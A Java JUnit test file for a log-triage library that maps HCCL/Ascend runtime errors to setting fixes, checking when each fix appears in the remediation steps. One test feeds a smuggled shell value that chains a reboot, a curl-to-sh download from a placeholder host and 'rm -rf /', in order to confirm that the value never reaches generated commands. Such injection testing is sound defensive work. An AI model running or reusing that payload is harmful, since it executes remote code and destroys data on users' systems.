package io.github.ascendtriage.internal.engine;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.github.ascendtriage.AscendTriage;
import io.github.ascendtriage.Diagnosis;
import io.github.ascendtriage.FixOrigin;
import io.github.ascendtriage.FixStep;
import io.github.ascendtriage.Layer;
import io.github.ascendtriage.TestKnowledge;
import io.github.ascendtriage.internal.casebase.PlaceholderTemplate;
import io.github.ascendtriage.internal.codes.SettingRules;
import java.util.List;
import org.junit.jupiter.api.Test;

/**
 * A setting's official fix reaches the answer's remediation (issue 35, settings19): a setting the
 * log shows with a value its page does not allow, and a setting the deciding rule reads as the
 * fault's lever; never a value of the log's own, never for an answer without a layer.
 */
class SettingStepsTest {
  private static final AscendTriage TRIAGE = AscendTriage.builder().build();
  private static final SettingRules RULES = SettingRules.builtIn();
  private static final String BIND = "EJ0003: [PID: 88] 2026-05-06-07:08:09.010.011 Failed to bind the IP port. Reason: The IP address"
      + " and port have been bound already.";

  private static List<FixStep> settingSteps(Diagnosis d) {
    return d.remediation().stream().filter(x -> x.origin() == FixOrigin.SETTING).toList();
  }

  @Test
  void aPortRangeThePageDoesNotAllowGivesItsFixOnEveryRank() {
    Diagnosis d = TRIAGE.diagnose(BIND + "\nexport HCCL_NPU_SOCKET_PORT_RANGE=\"61000-61050,61040\"");
    assertTrue(d.layer() != Layer.UNKNOWN, d.toString());
    SettingRules.Rule r = RULES.rule("HCCL_NPU_SOCKET_PORT_RANGE").orElseThrow();
    List<FixStep> s = settingSteps(d);
    assertEquals(List.of(r.fix()), s.stream().map(FixStep::command).toList(), d.remediation().toString());
    assertEquals("HCCL_NPU_SOCKET_PORT_RANGE: " + r.source(), s.get(0).ref());
    assertTrue(s.get(0).host().isEmpty(), "every card of the communicator sets it");
    // the step comes after the steps specific to the answer, before the layer's checks
    int at = d.remediation().indexOf(s.get(0));
    assertTrue(d.remediation().subList(0, at).stream().noneMatch(x -> x.origin() == FixOrigin.LAYER_CHECK
        || x.origin() == FixOrigin.SIMILAR_INCIDENT), d.remediation().toString());
    // a value the page allows gives no such step
    assertEquals(List.of(), settingSteps(TRIAGE.diagnose(BIND + "\nexport HCCL_NPU_SOCKET_PORT_RANGE=\"61000-61050\"")));
  }

  @Test
  void aHostileValueNeverReachesTheCommand() {
    Diagnosis d = TRIAGE.diagnose(BIND + "\nexport HCCL_CONNECT_TIMEOUT=99;reboot $(curl -s http://x.invalid|sh) `rm -rf /`");
    List<FixStep> s = settingSteps(d);
    assertEquals(List.of(RULES.rule("HCCL_CONNECT_TIMEOUT").orElseThrow().fix()), s.stream().map(FixStep::command).toList(),
        d.remediation().toString());
    for (FixStep x : d.remediation()) {
      assertFalse(x.command().contains("reboot") || x.command().contains("curl") || x.command().contains("rm -rf"), x.command());
    }
  }

  @Test
  void theSettingTheDecidingRuleReadsGivesItsFix() {
    String refused = String.join("\n",
        "[ERROR] RUNTIME(812,python3):2026-05-02-08:14:21.100.001 [stream.cc:77] launch task failed, retCode=0x7100003",
        "[ERROR] RUNTIME(812,python3):2026-05-02-08:14:21.100.002 [api_c.cc:90] submit failed, runtime result = 507009");
    // no case (one of ours reads AIV under graph capture): the reasoner answers, its rule names the setting
    AscendTriage reasoner = AscendTriage.builder().disableCases("aiv-allreduce-graph-capture").build();
    Diagnosis aiv = reasoner.diagnose("[HCCL_ENV] HCCL_OP_EXPANSION_MODE set by environment to [AIV]\n" + refused);
    assertEquals(Layer.COLLECTIVE, aiv.layer(), aiv.toString());
    assertEquals(io.github.ascendtriage.AnswerSource.REASONING, aiv.answer());
    assertEquals(List.of(RULES.rule("HCCL_OP_EXPANSION_MODE").orElseThrow().fix()), settingSteps(aiv).stream().map(FixStep::command).toList(),
        aiv.remediation().toString());
    // the same failure under a mode no rule reads as its lever: no setting step
    assertEquals(List.of(), settingSteps(reasoner.diagnose("export HCCL_OP_EXPANSION_MODE=HOST\n" + refused)));
  }

  @Test
  void anAnswerWithoutALayerGetsNoFixButTheWarningStays() {
    Diagnosis d = TRIAGE.diagnose("export HCCL_HOST_SOCKET_PORT_RANGE=80-90\ntraining finished, 100 steps");
    assertEquals(Layer.UNKNOWN, d.layer());
    assertEquals(List.of(), d.remediation());
    assertTrue(d.warnings().stream().anyMatch(w -> w.message().contains("HCCL_HOST_SOCKET_PORT_RANGE")), d.warnings().toString());
  }

  /**
   * Beside a code by which HCCL refuses what was asked (setting-rules.json {@code refusedBy}:
   * HCCL_E_NOT_SUPPORT, HCCL_E_PARA), a setting the input shows gets its fix whatever its value
   * (fix20); the same failure with another code, or the same code with no setting, gives none.
   */
  @Test
  void aSettingBesideACodeThatRefusesARequestGivesItsFix() {
    String failed = "RuntimeError: HCCL function error: hcclCommInitRootInfoConfig(numRanks, &rootInfo, rank, config, &(comm->hcclComm_)),"
        + " error code is %d";
    String env = "env_vars:\n  HCCL_HOST_SOCKET_PORT_RANGE: \"auto\"\n";
    Diagnosis d = TRIAGE.diagnose(env + String.format(failed, 5));
    assertTrue(d.layer() != Layer.UNKNOWN, d.toString());
    assertEquals(List.of(RULES.rule("HCCL_HOST_SOCKET_PORT_RANGE").orElseThrow().fix()),
        settingSteps(d).stream().map(FixStep::command).toList(), d.remediation().toString());
    assertTrue(io.github.ascendtriage.internal.codes.SettingRefusals.builtIn().refuses("hccl-result/5"));
    Diagnosis other = TRIAGE.diagnose(env + String.format(failed, 11));
    assertTrue(other.layer() != Layer.UNKNOWN, other.toString());
    assertEquals(List.of(), settingSteps(other), "HCCL_E_TCP_CONNECT refuses no request: " + other.remediation());
    assertEquals(List.of(), settingSteps(TRIAGE.diagnose(String.format(failed, 5))));
  }

  /**
   * A fault whose rule owns its line ({@code script.invalid-setting}: the words on it are the subject
   * of the fault) and names a variable the setting rules know gives that setting's fix, whatever value
   * the input shows (fix28: an empty value, which the value recognizer cannot read); a variable only on another line,
   * or a name inside a longer one, gives none.
   */
  @Test
  void aVariableTheRefusingLineNamesGetsItsFix() {
    Diagnosis d = TRIAGE.diagnose("export HCCL_EXEC_TIMEOUT=${SECS}\nRuntimeError: HCCL_EXEC_TIMEOUT must be a positive number, got ''");
    assertEquals(Layer.SCRIPT, d.layer(), d.toString());
    assertEquals(List.of(RULES.rule("HCCL_EXEC_TIMEOUT").orElseThrow().fix()), settingSteps(d).stream().map(FixStep::command).toList(),
        d.remediation().toString());
    Diagnosis t = TRIAGE.diagnose("ValueError: invalid value for HCCL_CONNECT_TIMEOUT: 'ten'");
    assertEquals(List.of(RULES.rule("HCCL_CONNECT_TIMEOUT").orElseThrow().fix()), settingSteps(t).stream().map(FixStep::command).toList(),
        t.remediation().toString());
    Diagnosis elsewhere = TRIAGE.diagnose("export HCCL_BUFFSIZE=${MB}\nRuntimeError: tp_size should be positive, got 0");
    assertEquals(List.of(), settingSteps(elsewhere), elsewhere.remediation().toString());
    assertTrue(SettingSteps.names("got HCCL_BUFFSIZE=0", "HCCL_BUFFSIZE"));
    assertFalse(SettingSteps.names("MY_HCCL_BUFFSIZE_X should be positive", "HCCL_BUFFSIZE"));
  }

  @Test
  void everySettingsFixCompilesWithTheShippedPlaceholders() {
    var known = TestKnowledge.K.placeholderClasses();
    for (String name : List.of("HCCL_CONNECT_TIMEOUT", "HCCL_HOST_SOCKET_PORT_RANGE", "HCCL_NPU_SOCKET_PORT_RANGE", "HCCL_OP_EXPANSION_MODE",
        "HCCL_SOCKET_FAMILY", "HCCL_RDMA_SL", "HCCL_IF_IP", "HCCL_SOCKET_IFNAME")) {
      PlaceholderTemplate.compile(RULES.rule(name).orElseThrow().fix(), known);
    }
  }
}
